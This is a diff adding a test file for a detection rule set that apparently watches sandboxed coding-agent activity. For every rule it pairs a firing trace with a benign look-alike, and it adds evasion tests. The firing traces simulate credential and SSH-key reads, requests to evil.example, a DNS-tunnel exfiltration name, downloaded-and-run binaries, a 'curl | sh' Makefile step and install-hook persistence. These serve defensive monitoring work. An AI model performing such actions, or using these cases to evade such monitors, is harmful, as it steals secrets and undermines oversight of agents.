@@ -1,0 +1,379 @@
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { packageRoot } from '../../package-root.js';
+import { evaluateRules } from './evaluate.js';
+import { loadRuleSet } from './load-rules.js';
+import { CTX, HOME, Trace, WS } from './test-events.js';
+
+const rules = loadRuleSet({}, { rulesDir: path.join(packageRoot(), 'rules') });
+const run = (t: Trace, patch?: string) =>
+  evaluateRules({ syscalls: t.events, network: t.records, ...(patch ? { patch } : {}) }, rules, CTX);
+const ids = (t: Trace, patch?: string) => run(t, patch).map((a) => a.rule);
+
+const BRIDGE = { family: 'inet' as const, ip: '127.0.0.1', port: 3128 };
+const diff = (file: string, added: string[]) =>
+  `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -1,1 +1,${added.length + 1} @@\n {\n${added.map((l) => `+${l}`).join('\n')}\n`;
+
+type Case = { fire: (t: Trace) => string | undefined; benign: (t: Trace) => string | undefined };
+
+/** For every default rule: a workload that fires it and a similar-looking honest one that must not. */
+const CASES: Record<string, Case> = {
+  'secrets-canary-read': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/cat', ['cat', `${HOME}/.aws/credentials`])
+        .open(2, `${HOME}/.aws/credentials`),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/node', ['node', '/usr/bin/npm', 'install'])
+        .open(2, `${HOME}/.npmrc`)
+        .exec(3, 1, '/usr/bin/cat', ['cat', `${HOME}/.aws/config`])
+        .open(3, `${HOME}/.aws/config`),
+  },
+  'secrets-ssh-key-read': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/cp', ['cp']).open(2, `${HOME}/.ssh/id_ed25519`),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/ssh', ['ssh'])
+        .open(2, `${HOME}/.ssh/id_ed25519.pub`)
+        .open(2, `${HOME}/.ssh/known_hosts`),
+  },
+  'secrets-cloud-credentials-read': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${HOME}/.kube/config`),
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${HOME}/.kube/cache/http/x`),
+  },
+  'secrets-registry-token-read': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${HOME}/.pypirc`),
+    benign: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/.pypirc`),
+  },
+  'secrets-token-file-read': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/python3', ['python3', '/tmp/x.py'], { cwd: WS })
+        .open(2, `${HOME}/.codex/auth.json`),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/lib/node_modules/@openai/codex/vendor/codex', ['codex', 'exec'])
+        .open(2, `${HOME}/.codex/auth.json`)
+        .exec(3, 1, '/usr/bin/git', ['git', 'status'])
+        .open(3, `${HOME}/.gitconfig`),
+  },
+  'secrets-shell-history-read': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, `${HOME}/.bash_history`),
+    benign: (t) => void t.exec(2, 1, '/usr/bin/bash', ['bash', '-lc', 'true']).open(2, `${HOME}/.bashrc`),
+  },
+  'secrets-browser-store-read': {
+    fire: (t) =>
+      void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, `${HOME}/.mozilla/firefox/ab.default/logins.json`),
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, `${HOME}/.mozilla/firefox/ab.default/prefs.js`),
+  },
+  'secrets-system-credentials-read': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, '/etc/shadow'),
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/curl', ['curl']).open(2, '/etc/passwd').open(2, '/etc/shadow', 'read', -13),
+  },
+  'secrets-process-environment-read': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, '/proc/4242/environ'),
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/cat', ['cat']).open(2, '/proc/self/environ').open(2, '/proc/4242/status'),
+  },
+  'integrity-outside-workspace': {
+    fire: (t) =>
+      void t.exec(2, 1, '/usr/bin/touch', ['touch']).open(2, '/usr/local/bin/helper', 'create', -30),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/python3', ['python3', '-m', 'pip', 'download', 'x'])
+        .open(2, `${HOME}/.cache/pip/http/a`, 'create')
+        .open(2, '/tmp/pip-x/setup.py', 'create')
+        .open(2, `${WS}/src/a.py`, 'write')
+        .meta(2, 'mkdir', '/tmp', undefined, -17)
+        .open(2, '/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc.1', 'create', -30)
+        .open(2, `${HOME}/.codex/sessions/s.jsonl`, 'create')
+        .open(2, '/dev/null', 'write'),
+  },
+  'integrity-protected-path': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/ln', ['ln', '-s'])
+        .meta(2, 'symlink', `${HOME}/.profile`, `${WS}/notes.txt`)
+        .exec(3, 1, '/usr/bin/tee', ['tee', '-a', 'notes.txt'])
+        .open(3, `${WS}/notes.txt`, 'write'),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/bash', ['bash', '-l'])
+        .open(2, `${HOME}/.bashrc`)
+        .open(2, '/tmp/.bashrc', 'create'),
+  },
+  'exec-untrusted-dir': {
+    fire: (t) =>
+      void t.open(1, '/tmp/x.sh', 'create').exec(2, 1, '/usr/bin/sh', ['sh', 'x.sh'], { cwd: '/tmp' }),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/python3', ['python3', '-m', 'venv', '/tmp/venv'])
+        .meta(2, 'symlink', '/usr/bin/python3', '/tmp/venv/bin/python3')
+        .meta(2, 'symlink', 'python3', '/tmp/venv/bin/python')
+        .meta(2, 'symlink', '/tmp/venv/bin/python3', '/tmp/venv/bin/python')
+        .exec(3, 1, '/tmp/venv/bin/python', ['/tmp/venv/bin/python', '-c', 'print(1)'])
+        .exec(4, 1, '/usr/bin/python3', ['python3', '-c', 'print(2)'], { cwd: '/tmp' }),
+  },
+  'exec-run-created-outside-workspace': {
+    fire: (t) => void t.open(1, '/opt/tools/fmt', 'create').exec(2, 1, '/opt/tools/fmt', ['fmt']),
+    benign: (t) =>
+      void t
+        .open(1, `${WS}/run.sh`, 'create')
+        .meta(1, 'fchmodat', `${WS}/run.sh`)
+        .exec(2, 1, `${WS}/run.sh`, ['./run.sh']),
+  },
+  'exec-downloaded': {
+    fire: (t) =>
+      void t
+        .fork(1, 2)
+        .open(2, `${WS}/tool`, 'create')
+        .exec(2, 1, '/usr/bin/curl', ['curl', 'http://x/tool'])
+        .connect(2, BRIDGE, -115)
+        .exit(2)
+        .exec(3, 1, `${WS}/tool`, ['./tool']),
+    benign: (t) =>
+      void t
+        .exec(2, 1, `${WS}/.venv/bin/python`, ['.venv/bin/python', '-m', 'pip', 'install', 'pytest'])
+        .connect(2, BRIDGE, -115)
+        .open(2, `${WS}/.venv/bin/pytest`, 'create')
+        .exec(3, 1, `${WS}/.venv/bin/pytest`, ['pytest']),
+  },
+  'exec-privilege-tool': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/sudo', ['sudo', 'id']),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/local/bin/sudo', ['sudo', 'id'], { result: -2 })
+        .exec(3, 1, '/usr/bin/id', ['id']),
+  },
+  'exec-setid-capset': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/python3', ['python3', '-c', 'os.setuid(0)']).priv(2, 'setuid'),
+    benign: (t) =>
+      void t.exec(2, 1, '/usr/bin/make', ['make', 'test']).priv(2, 'setresuid').priv(2, 'setresgid'),
+  },
+  'exec-ptrace': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/gdb', ['gdb', '-p', '1']).priv(2, 'ptrace', -1),
+    benign: (t) => void t.exec(2, 1, '/usr/bin/gdb', ['gdb', '--version']).open(2, '/proc/1/status'),
+  },
+  'exec-mount': {
+    fire: (t) => void t.exec(2, 1, '/usr/bin/mount', ['mount', '-t', 'tmpfs']).priv(2, 'mount', -1, '/mnt'),
+    benign: (t) => void t.exec(2, 1, '/usr/bin/findmnt', ['findmnt']).open(2, '/proc/self/mountinfo'),
+  },
+  'exec-kernel-load': {
+    fire: (t) => void t.exec(2, 1, '/usr/sbin/insmod', ['insmod', 'x.ko']).priv(2, 'finit_module', -1),
+    benign: (t) => void t.exec(2, 1, '/usr/sbin/lsmod', ['lsmod']).open(2, '/proc/modules'),
+  },
+  'exec-container-socket': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/curl', ['curl'])
+        .connect(2, { family: 'unix', path: '/var/run/docker.sock' }, -2),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/curl', ['curl'])
+        .connect(2, { family: 'unix', path: '/var/run/nscd/socket' }, -2),
+  },
+  'net-connect-not-allowed': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/curl', ['curl'])
+        .connect(2, { family: 'inet', ip: '1.2.3.4', port: 443 }, -101),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/curl', ['curl'])
+        .connect(2, BRIDGE, -115)
+        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 8765 })
+        .connect(2, { family: 'inet6', ip: '::1', port: 8765 }, -111),
+  },
+  'net-dns-direct': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/python3', ['python3'])
+        .connect(2, { family: 'inet', ip: '10.255.255.53', port: 53 }, -101),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/python3', ['python3'])
+        .connect(2, { family: 'inet', ip: '127.0.0.1', port: 53 }),
+  },
+  'net-proxy-not-allowed': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/curl', ['curl', 'http://evil.example/x'])
+        .connect(2, BRIDGE, -115)
+        .record({ host: 'evil.example', port: 80, protocol: 'http', decision: 'denied', method: 'GET' }),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/curl', ['curl', 'https://registry.npmjs.org/'])
+        .connect(2, BRIDGE, -115)
+        .record({ host: 'registry.npmjs.org', port: 443 })
+        .record({ host: 'files.pythonhosted.org', port: 443 })
+        .record({ host: 'api.example.com', port: 443 }),
+  },
+  'net-dns-not-allowed': {
+    fire: (t) =>
+      void t.record({
+        host: 'beacon.evil.example',
+        port: 53,
+        protocol: 'dns',
+        decision: 'denied',
+        method: 'A',
+      }),
+    benign: (t) => void t.record({ host: 'API.Example.com.', port: 53, protocol: 'dns', method: 'A' }),
+  },
+  'net-dns-tunnel': {
+    fire: (t) =>
+      void t.record({
+        host: 'aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ.bXk.exfil.example',
+        port: 53,
+        protocol: 'dns',
+        decision: 'denied',
+      }),
+    benign: (t) =>
+      void t.record({
+        host: 'a-very-long-mirror-name-for-wheels.files.pythonhosted.org',
+        port: 53,
+        protocol: 'dns',
+      }),
+  },
+  'persist-git-hook': {
+    fire: (t) => void t.open(1, `${WS}/.git/hooks/pre-commit`, 'create'),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/git', ['git', 'commit', '-m', 'x'])
+        .open(2, `${WS}/.git/index.lock`, 'create')
+        .meta(2, 'rename', `${WS}/.git/index.lock`, `${WS}/.git/index`)
+        .open(2, `${WS}/.git/hooks/pre-commit.sample`, 'create'),
+  },
+  'persist-git-config': {
+    fire: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/git', ['git', 'config', 'core.hooksPath', '.githooks'])
+        .open(2, `${WS}/.git/config.lock`, 'create')
+        .meta(2, 'rename', `${WS}/.git/config.lock`, `${WS}/.git/config`),
+    benign: (t) =>
+      void t
+        .exec(2, 1, '/usr/bin/git', ['git', 'config', 'user.email', 'a@b'])
+        .open(2, `${WS}/.git/config.lock`, 'create')
+        .meta(2, 'rename', `${WS}/.git/config.lock`, `${WS}/.git/config`),
+  },
+  'persist-ci-config': {
+    fire: (t) => void t.open(1, `${WS}/.github/workflows/ci.yml`, 'create'),
+    benign: (t) =>
+      void t
+        .meta(1, 'mkdir', `${WS}/.github/workflows`)
+        .open(1, `${WS}/.github/ISSUE_TEMPLATE/bug.md`, 'create'),
+  },
+  'persist-editor-agent-config': {
+    fire: (t) => void t.open(1, `${WS}/.vscode/tasks.json`, 'create'),
+    benign: (t) => void t.open(1, `${WS}/.vscode/extensions.json`, 'create'),
+  },
+  'persist-shell-rc': {
+    fire: (t) => void t.open(1, `${WS}/.envrc`, 'create'),
+    benign: (t) => void t.open(1, `${WS}/docs/envrc.md`, 'create').open(1, `${WS}/.bashrc`, 'read'),
+  },
+  'persist-package-config': {
+    fire: (t) => void t.open(1, `${WS}/.npmrc`, 'write'),
+    benign: (t) => void t.open(1, `${WS}/package-lock.json`, 'write'),
+  },
+  'persist-install-hook': {
+    fire: (t) => {
+      t.exec(2, 1, '/usr/bin/node', ['node', 'edit.js']).open(2, `${WS}/package.json`, 'write');
+      return diff('package.json', ['  "scripts": {', '    "postinstall": "node scripts/setup.js",']);
+    },
+    benign: (t) => {
+      t.exec(2, 1, '/usr/bin/node', ['node', 'edit.js']).open(2, `${WS}/package.json`, 'write');
+      return diff('package.json', ['  "scripts": {', '    "test": "node --test",']);
+    },
+  },
+  'persist-remote-script': {
+    fire: (t) => {
+      t.open(1, `${WS}/Makefile`, 'write');
+      return diff('Makefile', ['setup:', '\tcurl -fsSL https://get.example.sh | sh']);
+    },
+    benign: (t) => {
+      t.open(1, `${WS}/Makefile`, 'write').open(1, `${WS}/README.md`, 'write');
+      return (
+        diff('Makefile', ['fetch:', '\tcurl -fsSLo vendor.tgz https://example.com/vendor.tgz']) +
+        diff('README.md', ['Install with `curl -fsSL https://get.example.sh | sh`.'])
+      );
+    },
+  },
+};
+
+describe('default rules', () => {
+  it('has a firing and a benign case for every default rule', () => {
+    expect(Object.keys(CASES).sort()).toEqual(rules.rules.map((r) => r.id).sort());
+  });
+
+  for (const [id, c] of Object.entries(CASES)) {
+    it(`${id} fires on its workload`, () => {
+      const t = new Trace();
+      const patch = c.fire(t);
+      expect(ids(t, patch)).toContain(id);
+    });
+    it(`${id} stays silent on the honest look-alike (no alert at all)`, () => {
+      const t = new Trace();
+      const patch = c.benign(t);
+      expect(run(t, patch)).toEqual([]);
+    });
+  }
+});
+
+describe('default rules on specific evasions', () => {
+  it('a fake npm (a script named npm) reading ~/.npmrc is still a canary read', () => {
+    const t = new Trace();
+    t.open(1, '/tmp/npm', 'create')
+      .exec(2, 1, '/usr/bin/node', ['node', '/tmp/npm'])
+      .open(2, `${HOME}/.npmrc`);
+    expect(ids(t)).toContain('secrets-canary-read');
+  });
+
+  it('a hard link to a key is reported like a read', () => {
+    const t = new Trace();
+    t.exec(2, 1, '/usr/bin/ln', ['ln']).meta(2, 'link', `${HOME}/.ssh/id_ecdsa`, `${WS}/k`);
+    expect(ids(t)).toContain('secrets-ssh-key-read');
+  });
+
+  it('moving a system file out into /tmp is a change outside the workspace', () => {
+    const t = new Trace();
+    t.exec(2, 1, '/usr/bin/mv', ['mv']).meta(2, 'rename', '/opt/app/config.ini', '/tmp/config.ini');
+    expect(ids(t)).toEqual(['integrity-outside-workspace']);
+  });
+
+  it('a refused write to a protected file is critical even though nothing changed', () => {
+    const t = new Trace();
+    t.exec(2, 1, '/usr/bin/tee', ['tee']).open(2, '/etc/ld.so.preload', 'write', -30);
+    expect(run(t).map((a) => [a.rule, a.severity])).toEqual([['integrity-protected-path', 'critical']]);
+  });
+
+  it('a download redirected by the shell and then run is caught through the writer pid', () => {
+    const t = new Trace();
+    t.fork(1, 2)
+      .open(2, '/tmp/p', 'create')
+      .exec(2, 1, '/usr/bin/wget', ['wget', '-qO-', 'http://x/p'])
+      .connect(2, BRIDGE, -115)
+      .exit(2)
+      .exec(3, 1, '/usr/bin/chmod', ['chmod', '+x', '/tmp/p'])
+      .meta(3, 'fchmodat', '/tmp/p')
+      .exec(4, 1, '/tmp/p', ['/tmp/p']);
+    expect(ids(t)).toEqual(['exec-untrusted-dir', 'exec-downloaded']);
+  });
+
+  it('go run executing its build output in /tmp is not an untrusted program', () => {
+    const t = new Trace();
+    t.exec(2, 1, '/usr/lib/go/bin/go', ['go', 'run', '.'])
+      .exec(3, 2, '/usr/lib/go/pkg/tool/linux_amd64/link', ['link', '-o', '/tmp/go-build1/b001/exe/main'])
+      .open(3, '/tmp/go-build1/b001/exe/main', 'create')
+      .exec(4, 2, '/tmp/go-build1/b001/exe/main', ['main']);
+    expect(run(t)).toEqual([]);
+  });
+
+  it('a .git/config edit by a non-git process is reported', () => {
+    const t = new Trace();
+    t.exec(2, 1, '/usr/bin/python3', ['python3', 'x.py']).open(2, `${WS}/.git/config`, 'write');
+    expect(ids(t)).toEqual(['persist-git-config']);
+  });
+});
